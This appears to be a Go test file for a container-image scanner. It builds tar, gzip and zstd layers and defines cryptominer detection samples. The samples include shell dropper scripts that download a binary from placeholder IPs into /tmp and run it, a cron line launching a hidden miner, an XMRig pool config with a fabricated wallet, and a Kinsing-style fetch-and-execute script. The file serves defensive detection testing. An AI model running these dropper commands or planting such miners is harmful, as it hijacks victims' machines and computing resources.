package scanner

import (
	"archive/tar"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"strings"
	"testing"

	"github.com/klauspost/compress/gzip"
	"github.com/klauspost/compress/zstd"
)

// The samples below are harmless: a few header bytes and the indicator
// strings miners carry, built at test time. Nothing here executes.

// testWallet is a made-up address with the shape of a Monero one:
// "4", then a digit or A/B, then 93 base58 characters.
var testWallet = func() string {
	const alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
	var sb strings.Builder
	sb.WriteString("4A")
	for i := range 93 {
		sb.WriteByte(alphabet[(i*7+3)%len(alphabet)])
	}
	return sb.String()
}()

// Indicators are joined at run time only to keep each one greppable in
// one place.
const (
	stratumTCP  = "stratum+tcp://"
	donateLevel = "--donate-level"
)

var (
	dropperScript = "#!/bin/sh\n" +
		"curl -fsSL http://203.0.113.7/x -o /tmp/.x || wget -q http://203.0.113.7/x -O /tmp/.x\n" +
		"chmod +x /tmp/.x\n" +
		"/tmp/.x -o " + stratumTCP + "pool.example.net:3333 -u " + testWallet + " -p x -B\n"

	cronMinerLine = "* * * * * root /opt/.cache/sysupdate -o pool.example.net:4444 -u " + testWallet + " -k --tls\n"

	xmrigConfig = `{
    "autosave": true,
    "cpu": {"enabled": true, "huge-pages": true},
    "donate-level": 1,
    "randomx": {"init": -1, "mode": "auto"},
    "pools": [
        {"algo": "rx/0", "url": "pool.example.net:443", "user": "` + testWallet + `", "pass": "x", "keepalive": true, "tls": true}
    ]
}
`
	kinsingDropper = "#!/bin/bash\n" +
		"pkill -f kdevtmpfsi\n" +
		"curl -s http://198.51.100.9/kinsing -o /tmp/kdevtmpfsi\n" +
		"chmod +x /tmp/kdevtmpfsi && /tmp/kdevtmpfsi &\n"
)

// tfile is one entry of a test layer.
type tfile struct {
	name     string
	mode     int64
	data     []byte
	typeflag byte // 0: regular file
	link     string
}

func reg(name string, mode int64, data string) tfile {
	return tfile{name: name, mode: mode, data: []byte(data)}
}

// tarLayer builds an uncompressed layer.
func tarLayer(t testing.TB, files ...tfile) []byte {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, f := range files {
		h := &tar.Header{Name: f.name, Mode: f.mode, Size: int64(len(f.data)), Typeflag: f.typeflag, Linkname: f.link, Format: tar.FormatPAX}
		if h.Typeflag == 0 {
			h.Typeflag = tar.TypeReg
		}
		if h.Typeflag != tar.TypeReg {
			h.Size = 0
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if h.Typeflag == tar.TypeReg {
			if _, err := tw.Write(f.data); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func gzipBytes(t testing.TB, b []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	if _, err := zw.Write(b); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func zstdBytes(t testing.TB, b []byte) []byte {
	t.Helper()
	zw, err := zstd.NewWriter(nil)
	if err != nil {
		t.Fatal(err)
	}
	defer zw.Close()
	return zw.EncodeAll(b, nil)
}

// compressions are the layer encodings every family is checked under.
var compressions = []struct {
	name string
	fn   func(testing.TB, []byte) []byte
}{
	{"tar", func(_ testing.TB, b []byte) []byte { return b }},
	{"gzip", gzipBytes},
	{"zstd", zstdBytes},
}

func newTestScanner(t testing.TB, opts Options) *Scanner {
	t.Helper()
	s, err := New(opts)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	t.Cleanup(func() { s.Close() })
	return s
}

func hasFinding(fs []Finding, rule, path string) bool {
	for _, f := range fs {
		if f.Rule == rule && f.Path == path {
			return true
		}
	}
	return false
}

// hasFindingUnder says whether rule matched a path that starts with
// prefix.
func hasFindingUnder(fs []Finding, rule, prefix string) bool {
	for _, f := range fs {
		if f.Rule == rule && strings.HasPrefix(f.Path, prefix) {
			return true
		}
	}
	return false
}

// hasFindingIn says whether rule matched, at high severity, something
// unpacked from a layer's file (a path with "!" in it).
func hasFindingIn(fs []Finding, rule string) bool {
	for _, f := range fs {
		if f.Rule == rule && f.Severity == SeverityHigh && strings.Contains(f.Path, "!") {
			return true
		}
	}
	return false
}

func hexSHA256(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}
